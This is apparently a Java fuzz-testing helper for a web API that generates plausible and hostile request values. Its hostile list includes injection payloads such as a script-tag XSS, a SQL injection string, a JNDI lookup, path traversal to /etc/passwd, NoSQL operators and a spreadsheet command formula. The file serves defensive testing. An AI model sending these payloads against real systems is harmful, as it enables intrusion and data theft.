package org.awardinghub.api.fuzz;

import java.lang.reflect.ParameterizedType;
import java.lang.reflect.RecordComponent;
import java.lang.reflect.Type;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collection;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * Values for the fields, parameters and path variables of requests: plausible ones (the fixture's ids, values of the
 * declared type) and hostile ones (the wrong type, sizes far past any limit, control and invisible formatting
 * characters, right-to-left overrides, lone surrogates, numbers past every integer type, dates no calendar has).
 */
final class Values {

    /** A field left out of a JSON object altogether, as distinct from a field sent as null. */
    static final Object ABSENT = new Object();

    static final List<String> HOSTILE_TEXT = List.of(
            "",
            " ",
            "\u0000",
            "a\u0000b",
            "\u001b[31mred",
            "line\nbreak",
            "tab\there",
            "\r\n",
            "\u007f",
            "\u0085",
            "\u202eevil\u202c",
            "\u200b",
            "\ufeffbom",
            "\u2028",
            "\ud800",
            "\udfff\ud800",
            "\uffff",
            "😀👩‍🔧",
            "مرحبا",
            "漢字テスト",
            "<script>alert(1)</script>",
            "' OR '1'='1' --",
            "${jndi:ldap://example.invalid/a}",
            "../../../etc/passwd",
            "%00",
            "%ZZ",
            "null",
            "undefined",
            "true",
            "-1",
            "0",
            "9999999999999999999999999999",
            "1e309",
            "NaN",
            "{\"$gt\": \"\"}",
            "$where",
            "a.b.c",
            "=cmd|' /C calc'!A0",
            "x@y",
            "@@@",
            "0000000",
            "123456789",
            "2005-02-30",
            "-999999999-01-01T00:00:00Z",
            "+999999999-12-31T23:59:59Z");

    private Values() {}

    /** A hostile string: one of the list, one made of random characters of every plane, or a huge one. */
    static Arbitrary<String> hostileText() {
        return Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.of(HOSTILE_TEXT)),
                Tuple.of(3, Arbitraries.strings().all().ofMaxLength(40)),
                Tuple.of(
                        2,
                        Arbitraries.strings().withCharRange('\u0000', '\u00ff').ofMaxLength(30)),
                Tuple.of(
                        1,
                        Arbitraries.of(1_000, 20_000, 70_000, 300_000)
                                .flatMap(length -> Arbitraries.of("x", "é", "\u0000", "😀", "a ")
                                        .map(unit -> unit.repeat(length / unit.length())))));
    }

    /** A value for something of this name: the fixture's, a plausible one, or a hostile one. */
    static Arbitrary<String> text(String name, Fixture fixture) {
        List<String> known = fixture.known(name);
        Arbitrary<String> plausible = Arbitraries.oneOf(
                Arbitraries.strings().alpha().numeric().ofMinLength(1).ofMaxLength(24),
                Arbitraries.of("Fuzzing reason", "Sam Example", "1 Test Street", "a@b.example", "LV2-MAINT"));
        return known.isEmpty()
                ? Arbitraries.frequencyOf(Tuple.of(5, plausible), Tuple.of(5, hostileText()))
                : Arbitraries.frequencyOf(
                        Tuple.of(5, Arbitraries.of(known)), Tuple.of(2, plausible), Tuple.of(3, hostileText()));
    }

    /** The text of a query parameter or path variable of the declared type. */
    static Arbitrary<String> parameter(String name, Type type, Fixture fixture) {
        Class<?> raw = raw(type);
        if (raw == Integer.class || raw == int.class || raw == Long.class || raw == long.class) {
            return Arbitraries.frequencyOf(
                    Tuple.of(5, Arbitraries.integers().between(-5, 300).map(String::valueOf)),
                    Tuple.of(
                            3,
                            Arbitraries.of(
                                    "2147483647",
                                    "2147483648",
                                    "-2147483649",
                                    "99999999999999999999",
                                    "1e3",
                                    "0x10",
                                    "1.5",
                                    " 5",
                                    "+7",
                                    "",
                                    "٣")),
                    Tuple.of(2, hostileText()));
        }
        if (raw != null && raw.isEnum()) {
            List<String> constants = Arrays.stream(raw.getEnumConstants())
                    .map(c -> ((Enum<?>) c).name())
                    .toList();
            return Arbitraries.frequencyOf(
                    Tuple.of(5, Arbitraries.of(constants)),
                    Tuple.of(2, Arbitraries.of(constants).map(c -> c.toLowerCase(java.util.Locale.ROOT))),
                    Tuple.of(3, hostileText()));
        }
        if (name.equals("from") || name.equals("to") || name.equals("asOf") || raw == Instant.class) {
            return Arbitraries.frequencyOf(
                    Tuple.of(
                            5,
                            Arbitraries.of(
                                    "2026-01-01T00:00:00Z",
                                    "2020-02-29T12:00:00Z",
                                    "2026-01-01",
                                    "-999999999-01-01T00:00:00Z",
                                    "+999999999-12-31T23:59:59Z",
                                    "0000-01-01T00:00:00Z",
                                    "2026-13-45T25:61:61Z",
                                    "1700000000",
                                    "yesterday")),
                    Tuple.of(3, hostileText()));
        }
        return text(name, fixture);
    }

    /** A JSON value (maps, lists, strings, numbers, booleans, null) for a field of this type and name. */
    static Arbitrary<Object> json(Type type, String name, Fixture fixture, int depth) {
        Arbitrary<Object> typed = typed(type, name, fixture, depth, true);
        return Arbitraries.frequencyOf(
                Tuple.of(14, typed), Tuple.of(2, Arbitraries.just(null)), Tuple.of(2, anyJson(Math.min(depth, 2))));
    }

    /**
     * A JSON value of the declared type that a careful client could send: every field present, of its type, the
     * fixture's ids where the name says so. Such bodies get past validation to the command side's own rules.
     */
    static Arbitrary<Object> plausibleJson(Type type, String name, Fixture fixture, int depth) {
        return typed(type, name, fixture, depth, false);
    }

    /** Text a careful client sends for a field of this name. */
    static Arbitrary<String> plausibleText(String name, Fixture fixture) {
        List<String> known = fixture.known(name);
        String lower = name.toLowerCase(java.util.Locale.ROOT);
        Arbitrary<String> made;
        if (lower.contains("email")) {
            made = Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(10).map(s -> s + "@fuzz.example");
        } else if (lower.contains("date") || lower.equals("from") || lower.equals("to")) {
            made = Arbitraries.of("2005-04-03", "2026-01-01", "1999-12-31");
        } else if (lower.contains("password")) {
            made = Arbitraries.just(org.awardinghub.api.ApplicationTest.GOOD_PASSWORD);
        } else if (lower.contains("code") || lower.contains("id") || lower.contains("number")) {
            made = Arbitraries.strings()
                    .withCharRange('A', 'Z')
                    .numeric()
                    .ofMinLength(1)
                    .ofMaxLength(12);
        } else {
            made = Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(30);
        }
        return known.isEmpty() ? made : Arbitraries.frequencyOf(Tuple.of(3, Arbitraries.of(known)), Tuple.of(1, made));
    }

    private static Arbitrary<Object> typed(Type type, String name, Fixture fixture, int depth, boolean hostile) {
        Class<?> raw = raw(type);
        if (raw == null || raw == Object.class) {
            return anyJson(2);
        }
        if (raw == String.class) {
            return (hostile ? text(name, fixture) : plausibleText(name, fixture)).map(s -> s);
        }
        if (!hostile && (raw == int.class || raw == Integer.class || raw == long.class || raw == Long.class)) {
            return Arbitraries.integers().between(0, 100).map(i -> (Object) i);
        }
        if (!hostile && (raw == boolean.class || raw == Boolean.class)) {
            return Arbitraries.of(true, false).map(b -> (Object) b);
        }
        if (!hostile && raw.isEnum()) {
            return Arbitraries.of(raw.getEnumConstants()).map(c -> (Object) ((Enum<?>) c).name());
        }
        if (raw == int.class || raw == Integer.class || raw == long.class || raw == Long.class) {
            return Arbitraries.frequencyOf(
                    Tuple.of(6, Arbitraries.integers().between(-3, 200).map(i -> (Object) i)),
                    Tuple.of(
                            2,
                            Arbitraries.of(
                                    (Object) Integer.MAX_VALUE,
                                    Long.MAX_VALUE,
                                    new BigInteger("99999999999999999999999"),
                                    new BigDecimal("1.5"),
                                    new BigDecimal("1e400"),
                                    -0.0)),
                    Tuple.of(1, Arbitraries.of("12", "twelve").map(s -> (Object) s)));
        }
        if (raw == boolean.class || raw == Boolean.class) {
            return Arbitraries.of(true, false, "true", 1, "yes").map(v -> (Object) v);
        }
        if (raw == double.class || raw == Double.class || raw == BigDecimal.class) {
            return Arbitraries.of(0.5, 1e308, -1.0, new BigDecimal("1e400"), "NaN")
                    .map(v -> (Object) v);
        }
        if (raw == LocalDate.class) {
            return Arbitraries.of(
                            "2005-04-03",
                            "1900-01-01",
                            "2999-12-31",
                            "2005-02-30",
                            "05/04/2003",
                            "-999999999-01-01",
                            "+999999999-12-31",
                            "")
                    .map(v -> (Object) v);
        }
        if (raw == Instant.class) {
            return parameter("asOf", Instant.class, fixture).map(v -> (Object) v);
        }
        if (raw.isEnum()) {
            return parameter(name, raw, fixture).map(v -> (Object) v);
        }
        if (Collection.class.isAssignableFrom(raw)) {
            Type element = type instanceof ParameterizedType p ? p.getActualTypeArguments()[0] : Object.class;
            if (depth <= 0) {
                return Arbitraries.just(List.of());
            }
            if (!hostile) {
                return plausibleJson(element, name, fixture, depth - 1)
                        .list()
                        .ofMinSize(1)
                        .ofMaxSize(3)
                        .map(list -> (Object) list);
            }
            Arbitrary<Object> item = json(element, name, fixture, depth - 1);
            return Arbitraries.frequencyOf(
                    Tuple.of(8, item.list().ofMaxSize(4).map(list -> (Object) list)),
                    Tuple.of(1, item.list().ofMinSize(150).ofMaxSize(1200).map(list -> (Object) list)));
        }
        if (Map.class.isAssignableFrom(raw)) {
            return anyJson(2);
        }
        if (raw.isRecord()) {
            return hostile ? record(raw, fixture, depth) : plausibleRecord(raw, fixture, depth);
        }
        return anyJson(2);
    }

    /** An object with the record's fields (each sometimes left out), and now and then fields it does not have. */
    private static Arbitrary<Object> record(Class<?> type, Fixture fixture, int depth) {
        if (depth <= 0) {
            return Arbitraries.just(Map.of());
        }
        List<Arbitrary<Object>> fields = new ArrayList<>();
        RecordComponent[] components = type.getRecordComponents();
        for (RecordComponent component : components) {
            Arbitrary<Object> value = json(component.getGenericType(), component.getName(), fixture, depth - 1);
            fields.add(Arbitraries.frequencyOf(Tuple.of(9, value), Tuple.of(1, Arbitraries.just(ABSENT))));
        }
        Arbitrary<Map<String, Object>> unknown = Arbitraries.frequencyOf(
                Tuple.of(8, Arbitraries.just(Map.<String, Object>of())),
                Tuple.of(
                        2,
                        Arbitraries.maps(
                                        Arbitraries.of("unknown", "$where", "__proto__", "@class", "id", ""),
                                        anyJson(1))
                                .ofMaxSize(2)));
        Arbitrary<List<Object>> values = fields.isEmpty()
                ? Arbitraries.just(List.of())
                : Combinators.combine(fields).as(list -> list);
        return Combinators.combine(values, unknown).as((list, extra) -> {
            Map<String, Object> object = new LinkedHashMap<>();
            for (int i = 0; i < components.length; i++) {
                if (list.get(i) != ABSENT) {
                    object.put(components[i].getName(), list.get(i));
                }
            }
            extra.forEach(object::putIfAbsent);
            return object;
        });
    }

    private static Arbitrary<Object> plausibleRecord(Class<?> type, Fixture fixture, int depth) {
        RecordComponent[] components = type.getRecordComponents();
        if (depth <= 0 || components.length == 0) {
            return Arbitraries.just(Map.of());
        }
        List<Arbitrary<Object>> fields = new ArrayList<>();
        for (RecordComponent component : components) {
            fields.add(plausibleJson(component.getGenericType(), component.getName(), fixture, depth - 1));
        }
        return Combinators.combine(fields).as(list -> {
            Map<String, Object> object = new LinkedHashMap<>();
            for (int i = 0; i < components.length; i++) {
                object.put(components[i].getName(), list.get(i));
            }
            return object;
        });
    }

    /** Any JSON value, nested at most this deep. */
    static Arbitrary<Object> anyJson(int depth) {
        Arbitrary<Object> leaf = Arbitraries.frequencyOf(
                Tuple.of(3, hostileText().map(s -> (Object) s)),
                Tuple.of(2, Arbitraries.integers().map(i -> (Object) i)),
                Tuple.of(1, Arbitraries.of(true, false).map(b -> (Object) b)),
                Tuple.of(1, Arbitraries.just(null)),
                Tuple.of(1, Arbitraries.of(1e308, -0.0, 0.1).map(d -> (Object) d)));
        if (depth <= 0) {
            return leaf;
        }
        Arbitrary<Object> inner = Arbitraries.lazy(() -> anyJson(depth - 1));
        return Arbitraries.frequencyOf(
                Tuple.of(4, leaf),
                Tuple.of(1, inner.list().ofMaxSize(3).map(list -> (Object) list)),
                Tuple.of(
                        1,
                        Arbitraries.maps(Arbitraries.strings().alpha().ofMaxLength(6), inner)
                                .ofMaxSize(3)
                                .map(map -> (Object) map)));
    }

    private static Class<?> raw(Type type) {
        if (type instanceof Class<?> c) {
            return c;
        }
        if (type instanceof ParameterizedType p && p.getRawType() instanceof Class<?> c) {
            return c;
        }
        return null;
    }
}
